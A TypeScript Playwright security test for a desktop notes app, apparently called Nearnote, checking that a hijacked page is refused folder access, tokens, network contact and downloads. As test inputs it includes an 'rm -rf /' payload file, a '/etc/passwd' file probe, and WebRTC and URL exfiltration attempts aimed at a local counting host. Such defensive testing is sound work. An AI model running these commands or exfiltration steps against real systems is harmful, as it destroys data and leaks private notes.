import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import type { Page } from 'playwright/test';
import { expect, test } from './app-test.ts';
import { dropOn } from './drag.ts';
import { readLibrary, searchBox, upToDate, vault } from './window.ts';

// Refusals are reported in the page’s console.
test.use({ expectQuietConsole: false });

/** Asks as a page does that has been taken over: through the real preload, without any of the page’s own code. */
function ask(page: Page, name: string, input: object): Promise<unknown> {
  return page.evaluate(([request, data]) => Reflect.apply(window.nearnote.request, window.nearnote, [request, data]), [
    name,
    input,
  ] as const);
}

/** A host that counts who contacts it, by TCP or by UDP. */
async function startHost(): Promise<{ url: string; contacts: () => number; close: () => void }> {
  let contacts = 0;
  const count = (): number => (contacts += 1);
  const streams = createServer((socket) => {
    count();
    socket.destroy();
  });
  await once(streams.listen(0, '127.0.0.1'), 'listening');
  const address = streams.address();
  const port = typeof address === 'object' ? (address?.port ?? 0) : 0;
  const packets = createSocket('udp4', count);
  await once(packets.bind(port, '127.0.0.1'), 'listening');
  return {
    url: `http://127.0.0.1:${port}`,
    contacts: () => contacts,
    close: () => {
      streams.close();
      packets.close();
    },
  };
}

const notAgreed = { ok: false, error: { code: 'consent-missing' } };

test('a page that was taken over gains no folder, no source code, no host, no file and no token, and cannot wear its user down with questions', async ({
  app,
  page,
}) => {
  await dropOn(page, [vault]);
  await upToDate(page);
  const before = await readLibrary(page);
  // A file that a page makes up stands for none on the disk.
  expect(await page.evaluate(() => window.nearnote.tokenForFile(new File(['x'], '/etc/passwd')))).toBeNull();
  await app.answerNextQuestion('Cancel');
  await dropOn(page, ['/etc']);
  await expect(page.getByText('The folder was not added')).toBeVisible();

  const [folder] = before.folders;
  await app.answerNextQuestion('Cancel');
  const withCode = { ...folder?.settings, code: true };
  expect(await ask(page, 'folders.configure', { folderId: folder?.id, settings: withCode })).toMatchObject(notAgreed);
  expect((await readLibrary(page)).folders).toMatchObject([{ path: vault, settings: { code: false } }]);
  const host = await startHost();
  const draft = { service: 'custom', baseUrl: `${host.url}/v1`, model: 'what the notes say', dimensions: null };
  await app.answerNextQuestion('Cancel');
  expect(await ask(page, 'models.test', draft)).toMatchObject(notAgreed);
  expect(await app.questions()).toEqual([
    expect.stringMatching(/^Add \/etc to Nearnote\?\nThis folder belongs to the system\./),
    expect.stringMatching(/^Read the source code in “vault”, too\?/),
    expect.stringMatching(/^Let Nearnote connect to 127\.0\.0\.1:\d+\?/),
  ]);
  // After three refusals within a minute nothing more is asked, and everything is refused.
  for (const request of ['models.test', 'models.addHosted']) {
    expect(await ask(page, request, draft)).toMatchObject(notAgreed);
  }
  expect(await ask(page, 'models.configure', { hubUrl: host.url })).toMatchObject(notAgreed);
  expect(await ask(page, 'models.use', { key: 'starter', agreed: true })).toMatchObject({ ok: true });
  // Not even while the user types and holds keys down, which the page has led them to do.
  const wanted = [
    ['token.save', { baseUrl: host.url, token: 'planted-token', keep: 'session' }],
    ['network.switch', { isOff: false }],
    ['hosts.allow', { address: host.url }],
  ] as const;
  const ofPress = [
    ['note.open', { noteId: 1, offset: null }],
    ['note.reveal', { noteId: 1 }],
    ['clipboard.write', { text: 'taken' }],
  ] as const;
  await searchBox(page).focus();
  for (const key of ['n', 'Space', 'Enter']) {
    await page.keyboard.down(key);
    for (const [request, input] of key === 'Enter' ? wanted : [...wanted, ...ofPress]) {
      expect(await ask(page, request, input), `${key}: ${request}`).toMatchObject(notAgreed);
    }
    await page.keyboard.up(key);
  }
  expect(await ask(page, 'token.status', { baseUrl: host.url })).toMatchObject({ output: { source: 'none' } });
  await page.evaluate((to) => {
    window.open('https://example.com/?note=secret');
    const link = Object.assign(document.createElement('a'), { download: 'taken.sh' });
    link.href = URL.createObjectURL(new Blob(['rm -rf /']));
    link.click();
    const connection = new RTCPeerConnection({ iceServers: [{ urls: to.replace('http://', 'stun:') }] });
    connection.createDataChannel('out');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  }, host.url);
  await wait(1_000);
  expect(await app.handedOver()).toEqual([]);
  expect(await app.questions()).toHaveLength(3);
  expect(host.contacts()).toBe(0);
  host.close();
});
